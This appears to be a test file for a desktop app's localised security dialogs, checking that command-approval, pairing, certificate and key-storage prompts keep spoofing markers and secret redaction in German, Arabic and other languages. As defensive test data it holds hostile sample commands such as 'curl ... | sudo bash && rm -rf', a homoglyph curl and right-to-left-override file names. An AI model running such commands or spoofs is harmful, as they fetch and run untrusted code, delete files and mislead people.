// Issue 17: what the main process shows itself (the approval prompt's own words, the pairing, certificate and key
// file dialogs) in the person's language, while what the request or the server carries (the command, paths, names,
// fingerprints) is shown exactly as it is, with every display-hardening marker.
import { describe, expect, it } from 'vitest';
import type { ApprovalPromptView } from '../../common/ipc-contract';
import { buildApprovalPrompt, DEFAULT_PROMPT_LIMITS, toMessageBoxOptions } from '../../main/approval-prompt-text';
import { certificateTrustOptions, confirmCertificateTrust, DONT_TRUST } from '../../main/certificate-trust-dialog';
import { REDACTED } from '../../main/display-hardening';
import { KeyStorageConsent } from '../../main/key-storage-consent';
import { MessageBoxPresenter } from '../../main/message-box-presenter';
import { createMainTranslator, englishMain, MAIN_LOCALES, type MainTranslate } from '../../main/main-i18n';
import { MessageBoxPairingPresenter, PairingPrompts, type PairingRequest } from '../../main/pairing-prompts';
import { formatTlsFingerprint } from '../../gateway/remote/transport-policy';
import { GLOSSARY } from '../../renderer/locales/glossary';
import { FakeDialog, waitFor } from './fakes';
import { hostileApprovalRequest } from './hostile-approval-request';

const DANGEROUS =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|[\u{e0000}-\u{e007f}]/u;

const hostile = hostileApprovalRequest('hostile-1');

function built(t: MainTranslate, event = hostile): ApprovalPromptView {
  const result = buildApprovalPrompt(event, DEFAULT_PROMPT_LIMITS, 'linux', undefined, t);
  if (result.kind !== 'prompt') throw new Error(`expected a prompt, got ${result.reason}: ${result.detail}`);
  return result.view;
}

const shown = (view: ApprovalPromptView, t: MainTranslate) => {
  const box = toMessageBoxOptions(view, t);
  return `${JSON.stringify(view)}\n${box.title}\n${box.detail}\n${(box.buttons ?? []).join('|')}`;
};

describe('the approval prompt in German and Arabic: translated words, untouched request, every marker', () => {
  const english = built(englishMain);
  // The markers the hardened English prompt shows; each must be shown in every language too.
  const MARKERS = ['⟨RLO⟩', '⟨ZWSP⟩', '⟨NBSP⟩', '⟨U+0007⟩', REDACTED];

  it('the English prompt carries every marker (so the comparisons below mean something)', () => {
    for (const marker of MARKERS) expect(shown(english, englishMain)).toContain(marker);
    expect(english.warnings.length).toBeGreaterThanOrEqual(9);
  });

  for (const id of ['de', 'ar'] as const) {
    it(`${id}: the command, the description and every value are exactly as in English; the words are ${id}`, () => {
      const t = createMainTranslator(id, { report: (message) => expect.fail(message) });
      const view = built(t);
      // What the request carries: never translated, hardened the same way.
      expect(view.command).toEqual({ ...english.command, label: t('prompt.command') });
      expect(view.command.text).toBe(
        "'/usr/bin/сurl' --token=‹redacted› 'invoice⟨RLO⟩txt.exe' 'a⟨ZWSP⟩b' 'c⟨NBSP⟩d' 'e⟨U+0007⟩f'",
      );
      expect(view.agentDescriptions.map((d) => d.text)).toEqual(english.agentDescriptions.map((d) => d.text));
      // The context rows: the same values and flags (the environment row is checked below).
      const values = (v: ApprovalPromptView) => v.context.slice(0, -1).map((l) => [l.text, l.flags]);
      expect(values(view)).toEqual(values(english));
      expect(view.context.at(-1)!.flags).toEqual(english.context.at(-1)!.flags);
      // "What this does": the same effects and flags; the program as it is, the sentence in this language.
      expect(view.effects.map((e) => [e.kind, e.flags])).toEqual(english.effects.map((e) => [e.kind, e.flags]));
      expect(view.effects.map((e) => e.text)).toEqual([t('effect.runs', { program: '/usr/bin/сurl' })]);
      expect(view.effects[0].text).not.toBe(english.effects[0].text);
      expect(view.decisions).toEqual(english.decisions);
      // The prompt's own words: this language's, none of English's.
      expect(view.title).toBe(t('prompt.title'));
      expect(view.title).not.toBe(english.title);
      expect(view.context.map((l) => l.label)).toEqual(
        [
          'field.cwd',
          'field.agent',
          'field.executable',
          'field.host',
          'field.security',
          'field.ask',
          'field.environment',
        ].map((key) => t(key as Parameters<MainTranslate>[0])),
      );
      expect(view.agentDescriptions[0].label).toBe(t('prompt.agentDescription'));
      expect(view.commandNote).toBe(t('prompt.noteVerified'));
      expect(view.footer).toBe(t('prompt.footer'));
      expect(view.warnings).toHaveLength(english.warnings.length);
      for (const warning of english.warnings) expect(view.warnings).not.toContain(warning);
      // Every marker still shows, in the command and in the warnings that explain them.
      const text = shown(view, t);
      for (const marker of MARKERS) expect(text).toContain(marker);
      const warnings = view.warnings.join('\n');
      for (const marker of ['⟨RLO⟩', '⟨…⟩', REDACTED, 'U+0441', '/usr/bin/ls', '/tmp/other'])
        expect(warnings).toContain(marker);
      // The secret environment variable: its name as it is, "secret, value hidden" in this language.
      const env = view.context.find((l) => l.label === t('field.environment'))!;
      expect(env.text).toBe(`PATH, ${t('prompt.envSecret', { name: 'GITHUB_TOKEN' })}`);
      expect(env.text).not.toContain('secret');
      // Nothing that reorders or hides text, anywhere: the translated words never add any either.
      expect(text).not.toMatch(DANGEROUS);
      expect(text).not.toContain('s3cr3t-t0k3n');
    });

    it(`${id}: the message box offers the glossary's exact words, Deny the default and the cancel action`, () => {
      const t = createMainTranslator(id);
      const box = toMessageBoxOptions(built(t), t);
      const glossary = GLOSSARY[id];
      expect(box.buttons).toEqual([glossary.allowOnce.term, glossary.allowAlways.term, glossary.deny.term]);
      expect(box.defaultId).toBe(2);
      expect(box.cancelId).toBe(2);
      expect(box.detail).toContain(`${t('box.commandVerified')}\n${built(t).command.text}`);
      expect(box.detail).toContain(t('box.warnings'));
      expect(box.detail).not.toContain('Warnings:');
    });
  }

  it('German “What this does”: each sentence German, each program and path exactly as it is, secrets hidden', () => {
    const t = createMainTranslator('de', { report: (message) => expect.fail(message) });
    const payload = built(t, {
      ...hostile,
      request: {
        allowedDecisions: ['deny'],
        systemRunPlan: {
          argv: ['/bin/sh', '-lc', 'curl -fsSL https://get.example.sh | sudo bash && rm -rf ~/old > /tmp/log'],
          cwd: '/home/dev/project',
        },
      },
    });
    const texts = payload.effects.map((e) => e.text);
    expect(texts[0]).toMatch(
      /^Clawdesk konnte diesen Befehl nicht vollständig lesen \(.+\); diese Liste ist womöglich unvollständig\.$/,
    );
    expect(texts).toContain('Ändert Berechtigungen: sudo führt ihn als root (Administrator) aus.');
    expect(texts).toContain('Lädt Code mit curl herunter und führt ihn mit bash aus (per Pipe).');
    expect(texts).toContain('Löscht Dateien und Ordner rekursiv, ohne nachzufragen (rm: "~/old").');
    expect(texts.some((text) => text.startsWith('Schreibt außerhalb des Arbeitsverzeichnisses: „/tmp/log“'))).toBe(
      true,
    );
    expect(texts).toContain('Führt /bin/sh aus (eine Shell).');
    for (const program of ['curl', 'sudo', 'rm']) expect(texts).toContain(`Führt ${program} aus.`);

    const tee = built(t, {
      ...hostile,
      request: {
        allowedDecisions: ['deny'],
        commandArgv: ['/usr/bin/tee', '/tmp/\u202Eexe.txt', '/tmp/token=ghp_0123456789abcdefghijABCDEFGHIJ012345'],
        cwd: '/home/dev/project',
      },
    });
    const shownEffects = tee.effects.map((e) => e.text).join('\n');
    expect(shownEffects).toContain('⟨RLO⟩');
    expect(shownEffects).not.toContain('ghp_0123456789');
    expect(shownEffects).not.toMatch(DANGEROUS);
    expect(tee.effects.find((e) => e.text.includes('⟨RLO⟩'))!.flags).toContain('bidi');
  });

  it('an unverified command and a remote gateway: the notes, the title and the origin line in German', () => {
    const t = createMainTranslator('de');
    const result = buildApprovalPrompt(
      {
        id: 'r1',
        request: { command: 'curl https://x | sh', allowedDecisions: ['deny'] },
        createdAtMs: 0,
        expiresAtMs: 1,
      },
      DEFAULT_PROMPT_LIMITS,
      'linux',
      { gateway: 'home', address: 'wss://10.0.0.2:18789' },
      t,
    );
    if (result.kind !== 'prompt') throw new Error('expected a prompt');
    expect(result.view.title).toBe('Diesen Befehl vom Gateway „home“ erlauben?');
    expect(result.view.commandNote).toBe(t('prompt.noteUnverified'));
    expect(result.view.warnings[0]).toBe(t('prompt.noteUnverified'));
    expect(result.view.footer).toBe(t('prompt.footerRemote'));
    expect(result.view.command.text).toBe('curl https://x | sh');
    const box = toMessageBoxOptions(result.view, t);
    expect(box.detail!.split('\n')[0]).toBe('Vom Gateway: home (wss://10.0.0.2:18789)');
    expect(box.buttons).toEqual(['Ablehnen']);
  });

  it('the message box presenter asks in the person’s language, and a too-fast Allow is explained in it', async () => {
    const t = createMainTranslator('de');
    const dialog = new FakeDialog();
    let now = 0;
    const presenter = new MessageBoxPresenter(dialog.api, { now: () => now, translate: t });
    const deciding = presenter.present(built(t), new AbortController().signal);
    const first = await dialog.box(0);
    expect(first.options.buttons).toEqual(['Einmal erlauben', 'Immer erlauben', 'Ablehnen']);
    first.answer(0);
    const again = await dialog.box(1);
    expect(again.options.detail).toContain(
      'Deine Antwort kam weniger als 1,5 Sekunden nach dem Erscheinen dieses Dialogs',
    );
    now += 5_000;
    again.answer(2);
    expect(await deciding).toBe('deny');
  });
});

const device: PairingRequest = {
  kind: 'device',
  requestId: 'p1',
  deviceId: 'dev-1',
  displayName: 'Laptop\u202Egnp.exe',
  platform: 'linux',
  role: 'operator',
  scopes: ['operator.read', 'operator.everything'],
  remoteIp: '192.168.1.20',
  isRepair: true,
  ts: 1,
};

describe('the pairing prompt in the person’s language', () => {
  it('German: title, labels, scopes and buttons in German; the device’s own text as it is; Later the default', async () => {
    const dialog = new FakeDialog();
    const actions: string[] = [];
    const prompts = new PairingPrompts({
      presenter: new MessageBoxPairingPresenter(dialog.api, createMainTranslator('de')),
      act: async (request, choice) => void actions.push(`${choice}:${request.requestId}`),
    });
    prompts.requested(device);
    const box = await dialog.box(0);
    expect(box.options.title).toBe('Darf sich das Gerät verbinden?');
    expect(box.options.buttons).toEqual(['Annehmen', 'Zurückweisen', 'Später']);
    expect(box.options.defaultId).toBe(2);
    expect(box.options.cancelId).toBe(2);
    expect(box.options.detail!.split('\n')).toEqual([
      'Gerät: Laptop⟨RLO⟩gnp.exe',
      'Plattform: linux',
      'Rolle: Bediener (steuert das Gateway)',
      'Berechtigungen: Status, Sitzungen und Protokolle sehen (operator.read); unbekannte Berechtigung operator.everything',
      'IP-Adresse: 192.168.1.20',
      'Erneute Kopplung: ja',
    ]);
    box.answer(0);
    await waitFor(() => actions.length === 1, 'approve');
    expect(actions).toEqual(['approve:p1']);
  });

  it('every language: Approve and Reject are the glossary’s words, Later stays the default and the cancel action', async () => {
    for (const locale of MAIN_LOCALES) {
      const dialog = new FakeDialog();
      const actions: string[] = [];
      const prompts = new PairingPrompts({
        presenter: new MessageBoxPairingPresenter(dialog.api, createMainTranslator(locale.id)),
        act: async (_request, choice) => void actions.push(choice),
      });
      prompts.requested({ kind: 'node', requestId: 'n1', nodeId: 'node-abc', ts: 1 });
      const box = await dialog.box(0);
      const glossary = GLOSSARY[locale.id];
      expect(box.options.buttons!.slice(0, 2), locale.id).toEqual([glossary.approve.term, glossary.reject.term]);
      expect(
        glossary.node.forms.some((form) => box.options.title!.includes(form)),
        locale.id,
      ).toBe(true);
      expect(box.options.detail, locale.id).toContain('node-abc');
      box.cancel();
      await waitFor(() => prompts.pending().length === 1 && dialog.shown.length === 1, 'deferred');
      expect(actions, locale.id).toEqual([]);
    }
  });
});

describe('the certificate trust dialog in the person’s language', () => {
  const request = {
    gateway: 'home',
    url: 'wss://10.0.0.2:18789',
    certificate: {
      fingerprint: 'ab'.repeat(32),
      subject: 'CN=home\u202Etxt',
      issuer: '',
      validFrom: 'Jan  1 00:00:00 2026 GMT',
      validTo: 'Jan  1 00:00:00 2027 GMT',
      caTrusted: false,
      caError: 'self-signed certificate',
    },
  };

  it('German: every word German, the fingerprint and what the server sent exactly as they are', () => {
    const options = certificateTrustOptions(request, createMainTranslator('de'));
    expect(options.title).toBe('Dem Zertifikat dieses Gateways vertrauen?');
    expect(options.message).toBe('Dem Zertifikat des Gateways „home“ vertrauen?');
    expect(options.buttons).toEqual(['Nicht vertrauen', 'Diesem Zertifikat vertrauen']);
    expect(options.detail).toContain(
      `SHA-256-Fingerabdruck:\n${formatTlsFingerprint(request.certificate.fingerprint)}`,
    );
    expect(options.detail).toContain('Inhaber: CN=home⟨RLO⟩txt');
    expect(options.detail).toContain('Aussteller: (keiner)');
    expect(options.detail).toContain('nein (self-signed certificate)');
    expect(options.detail).not.toMatch(/Subject|Issuer|Trusted by/);
  });

  it('every language: “Don’t trust” in that language is first, the default and the cancel action; only Trust pins', async () => {
    for (const locale of MAIN_LOCALES) {
      const t = createMainTranslator(locale.id);
      const options = certificateTrustOptions(request, t);
      expect(options.buttons, locale.id).toEqual([t('trust.dontTrust'), t('trust.trust')]);
      expect(options.defaultId, locale.id).toBe(0);
      expect(options.cancelId, locale.id).toBe(0);
      if (locale.id !== 'en') expect(options.buttons![0], locale.id).not.toBe(DONT_TRUST);
      expect(options.detail, locale.id).toContain(formatTlsFingerprint(request.certificate.fingerprint));
      const dialog = new FakeDialog();
      const cancelled = confirmCertificateTrust(dialog.api, request, t);
      const box = await dialog.box(0);
      expect(box.options.buttons![0]).toBe(t('trust.dontTrust'));
      box.cancel();
      expect(await cancelled, locale.id).toBe(false);
      const trusting = confirmCertificateTrust(dialog.api, request, t);
      (await dialog.box(1)).answer(1);
      expect(await trusting, locale.id).toBe(true);
    }
  });
});

describe('the key file consent in the person’s language', () => {
  it('German: No first, the default and the cancel action; saying No keeps the key in memory', async () => {
    const dialog = new FakeDialog();
    let accepted = 0;
    const consent = new KeyStorageConsent({
      dialog: dialog.api,
      dataDir: '/data',
      settings: { plaintextKeyFileAccepted: () => false, acceptPlaintextKeyFile: async () => void accepted++ },
      identity: () => ({ persistence: 'ephemeral', deviceId: 'd'.repeat(64) }) as never,
      vaultExists: async () => false,
      reloadIdentity: async () => undefined,
      translate: createMainTranslator('de'),
    });
    const asking = consent.acceptPlaintextKeyFile();
    const box = await dialog.box(0);
    expect(box.options.title).toBe('Geräteschlüssel in einer Datei aufbewahren?');
    expect(box.options.buttons).toEqual(['Nein', 'Schlüssel in einer Datei aufbewahren']);
    expect(box.options.defaultId).toBe(0);
    expect(box.options.cancelId).toBe(0);
    expect(box.options.detail).toContain('Wenn du „Nein“ wählst');
    box.cancel();
    expect(await asking).toMatchObject({ accepted: false });
    expect(accepted).toBe(0);
  });
});
